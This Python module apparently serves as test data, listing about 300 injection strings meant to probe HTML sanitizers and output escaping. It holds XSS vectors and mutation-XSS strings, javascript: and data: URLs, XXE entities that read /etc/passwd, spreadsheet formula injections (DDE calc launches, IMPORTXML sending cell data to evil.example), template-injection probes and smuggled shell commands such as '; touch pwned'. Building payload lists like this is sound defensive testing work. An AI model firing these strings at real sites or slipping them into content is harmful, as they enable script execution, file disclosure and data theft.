"""Three hundred ways to write what a browser, a feed reader, an XML parser or a table program could take
for a command.

Each tries to set `pwned`, to open a dialog, or to leave the place where it was written: in HTML (text,
attribute, comment, raw text), an address, Markdown, JSON in a script, XML, a cell, a template.
"""

# What acts, if it gets into HTML as it stands.
ACTIVE = (
    "<script>pwned=1</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=pwned=1>",
    "<svg onload=pwned=1>",
    "<svg><script>pwned=1</script></svg>",
    "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:pwned=1><text y=20>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zy8+#x /></svg>",
    "<math><a xlink:href=javascript:pwned=1>x</a></math>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<object data=javascript:pwned=1></object>",
    "<embed src=//evil.example/x.swf>",
    "<body onload=pwned=1>",
    "<details open ontoggle=pwned=1>x</details>",
    "<video><source onerror=pwned=1></video>",
    "<audio src=x onerror=pwned=1>",
    "<input autofocus onfocus=pwned=1>",
    "<form action=javascript:pwned=1><button>x</button></form>",
    "<button form=x formaction=javascript:pwned=1>x</button>",
    "<a href=javascript:pwned=1>x</a>",
    "<a href=data:text/html,<script>pwned=1</script>>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import url(//evil.example/x.css);</style>",
    "<div style=background:url(//evil.example/x)>x</div>",
    "<template><script>pwned=1</script></template>",
    "<marquee onstart=pwned=1>x</marquee>",
    "<keygen autofocus onfocus=pwned=1>",
    "<dialog open onclose=pwned=1>x</dialog>",
    "<p onclick=alert(1)>x</p>",
)

# What would end the place where a text stands, before something active.
ENDS = (
    '">',
    "'>",
    "--><!--x",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</noscript>",
    "</svg>",
    "&quot;>",
    "`>",
)

# What changes its meaning when it is parsed, mended and written again.
MUTATING = (
    "<noscript><p title='</noscript><img src=x onerror=pwned=1>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwned=1&gt;'>",
    "<svg></p><style><a title='</style><img src=x onerror=pwned=1>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned=1>",
    "<select><template><img src=x onerror=pwned=1></template></select>",
    "<table><td><script>pwned=1</script>",
    "<img src='x`' onerror=pwned=1>`",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>pwned=1</x:script>",
    "<listing>&lt;img src=x onerror=pwned=1&gt;</listing>",
    "<xmp><img src=x onerror=pwned=1></xmp>",
    "<plaintext><img src=x onerror=pwned=1>",
    "<scr<script>ipt>pwned=1</scr</script>ipt>",
    "<<script>pwned=1//<</script>",
    "<script\x0c>pwned=1</script\x0c>",
    "<img\x0csrc=x\x0conerror=pwned=1>",
    "<img/src=x/onerror=pwned=1/>",
    "<IMG SRC=x OnErRoR=pwned=1>",
    "\uff1cscript\uff1epwned=1\uff1c/script\uff1e",
    "+ADw-script+AD4-pwned=1+ADw-/script+AD4-",
    "&lt;script&gt;pwned=1&lt;/script&gt;",
    "&#60;script&#62;pwned=1&#60;/script&#62;",
    "&#x3c;script&#x3e;pwned=1",
    "&amp;lt;script&amp;gt;pwned=1",
    "%3Cscript%3Epwned=1%3C/script%3E",
    "%253Cscript%253Epwned=1",
    "\\u003cscript\\u003epwned=1\\u003c/script\\u003e",
    "\\x3cscript\\x3epwned=1",
    "<script>pwned=1\u2028</script>",
    "\u2029<script>pwned=1</script>",
    "\u202e<script>pwned=1</script>",
    "<scr\u00adipt>pwned=1</scr\u00adipt>",
    "\ufeff<script>pwned=1</script>",
)

ADDRESSES = (
    "javascript:pwned=1",
    "JaVaScRiPt:pwned=1",
    "java\tscript:pwned=1",
    "&#106;avascript:pwned=1",
    "javascript&colon;pwned=1",
    "\x01javascript:pwned=1",
    "javascript://%0apwned=1",
    "data:text/html,<script>pwned=1</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+",
    "vbscript:pwned=1",
    "blob:https://evil.example/x",
    "file:///etc/passwd",
    "//evil.example/",
    "/\\evil.example/",
    "https:evil.example",
    'https://h.example/"onmouseover="pwned=1',
    "https://h.example/'><script>pwned=1</script>",
    "https://user:word@evil.example/",
    "https://h.example/?a=1&quot;&gt;<svg/onload=pwned=1>",
    "../../../../etc/passwd",
)

MARKDOWN = (
    "[x](javascript:pwned=1)",
    "[x](<javascript:pwned=1>)",
    "[x](java&#115;cript:pwned=1)",
    "[x]( javascript:pwned=1 'y')",
    "![x](javascript:pwned=1)",
    "![x](x 'y\" onerror=\"pwned=1')",
    "[x](https://h.example 'y\" onclick=\"pwned=1')",
    "<javascript:pwned=1>",
    "<https://h.example/\"onclick='pwned=1'>",
    "[x]: javascript:pwned=1\n\n[x]",
    "[x][y]\n\n[y]: data:text/html,<script>pwned=1</script>",
    "`<script>pwned=1</script>`",
    "    <script>pwned=1</script>",
    "> <script>pwned=1</script>",
    "* <img src=x onerror=pwned=1>",
    "# <svg onload=pwned=1>",
    "**<script>**pwned=1</script>",
    "<div markdown=1><script>pwned=1</script></div>",
    "<abbr title='x\" onmouseover=\"pwned=1'>x</abbr>",
    "<span lang='en\" onmouseover=\"pwned=1'>x</span>",
    "<ol start='1\" onclick=\"pwned=1'><li>x</li></ol>",
    "| a | b |\n|---|---|\n| <script>pwned=1</script> | [x](javascript:pwned=1) |",
    "<a id=main name=main>x</a>",
    "<p id=keys class=x>x</p>",
)

JSON = (
    '{"@type":"</script><script>pwned=1</script>"}',
    "</script><!--<script>pwned=1",
    "<!--<script>",
    "<!--<script></script>-->",
    '","pwned":1,"x":"',
    '\\"};pwned=1;//',
    "'-pwned=1-'",
    '"-pwned=1-"',
    "`${pwned=1}`",
    "*/pwned=1/*",
    "__proto__",
    "constructor",
    '{"__proto__":{"pwned":1}}',
    "toString",
)

XML = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "&e;",
    "]]><script xmlns='http://www.w3.org/1999/xhtml'>pwned=1</script><![CDATA[",
    "<?xml-stylesheet href='javascript:pwned=1'?>",
    "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>pwned=1</html:script>",
    "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd'/>",
    "<foreignObject><script>pwned=1</script></foreignObject>",
    "-->",
)

CELLS = (
    '=HYPERLINK("https://evil.example/","x")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=1+1",
    "＝1+1",
    "；=1+1",
    '"=1+1"',
    "=1+1,=1+1",
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    "%0A=1+1",
)

TEMPLATES = (
    "{{7*7}}",
    "{{ config.__class__ }}",
    "{% include '/etc/passwd' %}",
    "{# x #}",
    "${pwned}",
    "<%= pwned %>",
    "#{pwned}",
    "{{constructor.constructor('pwned=1')()}}",
    "%(x)s {0} {x.__class__} %n%n%n",
    "$(touch pwned)",
    "`touch pwned`",
    "; touch pwned",
)

_SINGLE = (*ACTIVE, *MUTATING, *ADDRESSES, *MARKDOWN, *JSON, *XML, *CELLS, *TEMPLATES)
_ENDING = tuple(end + active for active in ACTIVE for end in ENDS)
# Spread over all kinds of end, however many are taken.
_SPREAD = tuple(_ENDING[(number * 37) % len(_ENDING)] for number in range(len(_ENDING)))

PAYLOADS = (*_SINGLE, *_SPREAD)[:300]
